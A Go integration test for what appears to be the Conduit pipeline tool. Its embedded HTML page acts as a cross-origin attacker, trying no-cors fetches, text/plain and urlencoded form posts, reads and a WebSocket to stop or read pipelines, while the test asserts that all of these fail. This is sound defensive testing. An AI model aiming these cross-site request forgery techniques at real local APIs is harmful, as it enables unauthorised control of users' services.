package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
)

// attackPage is a web page of another origin (127.0.0.1 at another port:
// the same site as the API, another origin) that tries every way a page
// has to drive or read the API without asking: no-cors fetches with
// "simple" bodies, a JSON fetch (the browser asks first), HTML forms, a
// WebSocket and plain reads. It posts what it saw, including anything
// it could read, back to its own server, and shows #done when every
// attempt has ended.
const attackPage = `<!doctype html>
<html><body>
<iframe name="sink1"></iframe><iframe name="sink2"></iframe>
<script>
const api = %q, ws = %q;
const seen = {};
async function attempt(name, fn) {
  try { seen[name] = await fn(); } catch (e) { seen[name] = "error: " + e; }
}
function form(name, target, enctype, field, value) {
  return new Promise((resolve) => {
    const f = document.createElement("form");
    f.method = "POST"; f.action = api + "/v1/pipelines/seq/stop"; f.enctype = enctype; f.target = target;
    const i = document.createElement("input"); i.name = field; i.value = value; f.appendChild(i);
    document.body.appendChild(f);
    const frame = document.querySelector("iframe[name=" + target + "]");
    frame.onload = () => {
      // The frame shows another origin: reading it must fail.
      try { resolve("loaded; read: " + frame.contentDocument.body.innerText); }
      catch (e) { resolve("loaded; unreadable"); }
    };
    f.submit();
  });
}
(async () => {
  await attempt("no-cors text/plain stop (v1)", async () => {
    const r = await fetch(api + "/v1/pipelines/seq/stop", {method: "POST", mode: "no-cors",
      headers: {"Content-Type": "text/plain;charset=UTF-8"}, body: "{}"});
    return "type " + r.type + ", status " + r.status + ", read: " + await r.text();
  });
  await attempt("no-cors text/plain stop (Connect)", async () => {
    const r = await fetch(api + "/conduit.v1.PipelineService/StopPipeline", {method: "POST", mode: "no-cors",
      headers: {"Content-Type": "text/plain"}, body: JSON.stringify({id: "seq", force: true})});
    return "type " + r.type + ", status " + r.status + ", read: " + await r.text();
  });
  await attempt("no-cors stop without a content type", async () => {
    const r = await fetch(api + "/v1/pipelines/seq/stop", {method: "POST", mode: "no-cors", body: new Blob(["{}"])});
    return "type " + r.type + ", status " + r.status + ", read: " + await r.text();
  });
  await attempt("JSON stop (preflighted)", async () => {
    const r = await fetch(api + "/v1/pipelines/seq/stop", {method: "POST",
      headers: {"Content-Type": "application/json"}, body: "{}"});
    return "status " + r.status + ", read: " + await r.text();
  });
  await attempt("form text/plain stop", () => form("form", "sink1", "text/plain", '{"a":"', '"}'));
  await attempt("form urlencoded stop", () => form("form", "sink2", "application/x-www-form-urlencoded", "id", "seq"));
  await attempt("read a pipeline", async () => {
    const r = await fetch(api + "/v1/pipelines/seq");
    return "status " + r.status + ", read: " + await r.text();
  });
  await attempt("read the pipelines (Connect)", async () => {
    const r = await fetch(api + "/conduit.v1.PipelineService/ListPipelines", {method: "POST",
      headers: {"Content-Type": "application/json"}, body: "{}"});
    return "status " + r.status + ", read: " + await r.text();
  });
  await attempt("websocket to inspect", () => new Promise((resolve) => {
    const s = new WebSocket(ws + "/v1/connectors/seq:gen/inspect");
    const got = [];
    s.onopen = () => got.push("open");
    s.onmessage = (m) => got.push("message: " + m.data);
    s.onerror = () => got.push("error");
    s.onclose = (c) => resolve(got.join(", ") + "; closed " + c.code);
  }));
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
  const done = document.createElement("p"); done.id = "done"; done.textContent = "done";
  document.body.appendChild(done);
})();
</script></body></html>`

// stopEvent finds a stopping or stopped event (its kind, not a status)
// in the events command's table.
var stopEvent = regexp.MustCompile(`#\d+\s+(stopping|stopped)\s`)

// A page of another origin in a real browser, run by conduit's own user
// on the same machine, can neither change nor read anything: every
// attempt is refused, the pipeline keeps running, its audit log shows no
// stop. The console, same origin, still stops and starts it.
func TestCrossSitePageCannotDriveTheAPI(t *testing.T) {
	t.Parallel()
	w := newWorkspace(t, fmt.Sprintf(generatorToFile, 20))
	p := w.start("run")
	address := apiAddress(t, p)
	base := "http://" + address
	eventually(t, pollInterval, func() bool { return v1Status(t, base, "seq") == "STATUS_RUNNING" },
		func() string { return "seq never ran:\n" + p.stderr.String() })

	var (
		mu     sync.Mutex
		report map[string]string
	)
	attacker := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			rw.Header().Set("Content-Type", "text/html")
			_, _ = fmt.Fprintf(rw, attackPage, base, "ws://"+address)
		case "/report":
			b, _ := io.ReadAll(r.Body)
			mu.Lock()
			defer mu.Unlock()
			if err := json.Unmarshal(b, &report); err != nil {
				t.Errorf("the page's report %q: %v", b, err)
			}
		default:
			http.NotFound(rw, r)
		}
	}))
	t.Cleanup(attacker.Close)
	if !strings.HasPrefix(attacker.URL, "http://127.0.0.1:") {
		t.Fatalf("the attacker's page is not on loopback: %s", attacker.URL)
	}

	b := newBrowser(t)
	b.do(t, "the attacker's page", chromedp.Navigate(attacker.URL+"/"),
		chromedp.WaitVisible(chromedp.CSS("#done")))
	mu.Lock()
	seen := report
	mu.Unlock()
	if len(seen) != 9 {
		t.Fatalf("the page reported %d attempts, want 9: %v", len(seen), seen)
	}
	for name, got := range seen {
		t.Logf("%s: %s", name, got)
		// An opaque answer reads as nothing; a form's frame shows the
		// API's origin, which the page cannot look into; a WebSocket never
		// opens.
		if _, read, ok := strings.Cut(got, "read: "); ok && read != "" && !strings.HasPrefix(got, "error: ") {
			t.Errorf("%s: the page read %q", name, read)
		}
		if strings.HasPrefix(name, "form") && got != "loaded; unreadable" {
			t.Errorf("%s: %s", name, got)
		}
		if strings.Contains(got, "open") || strings.Contains(got, "message:") {
			t.Errorf("%s: %s", name, got)
		}
	}
	for _, name := range []string{"JSON stop (preflighted)", "read a pipeline", "read the pipelines (Connect)"} {
		if !strings.HasPrefix(seen[name], "error: ") {
			t.Errorf("%s: the browser let the page read the answer: %s", name, seen[name])
		}
	}

	// Nothing changed: every attempt had its answer before the page
	// reported, and seq runs with no stop in its audit log.
	if st := v1Status(t, base, "seq"); st != "STATUS_RUNNING" {
		t.Fatalf("after the attacker's page seq is %s", st)
	}
	if events := w.mustPipelines(address, "events", "seq"); stopEvent.MatchString(events) {
		t.Fatalf("seq's audit log shows a stop:\n%s", events)
	}

	// The console, same origin, still stops and starts seq.
	answerYes := chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
		_, err := chromedp.Evaluate[bool]("window.confirm = () => true, true")(ctx, tg)
		return err
	})
	b.do(t, "the console stops seq", chromedp.Navigate(base+"/ui/#/pipeline/seq"), answerYes,
		chromedp.WaitEnabled(chromedp.CSS(`#stop`)), chromedp.Click(chromedp.CSS(`#stop`)),
		chromedp.WaitVisible(chromedp.CSS(`h1 .status-stopped`)))
	b.do(t, "the console starts seq", answerYes, chromedp.WaitEnabled(chromedp.CSS(`#start`)), chromedp.Click(chromedp.CSS(`#start`)),
		chromedp.WaitVisible(chromedp.CSS(`h1 .status-running`)))
	if st := v1Status(t, base, "seq"); st != "STATUS_RUNNING" {
		t.Fatalf("after the console's start seq is %s", st)
	}
}
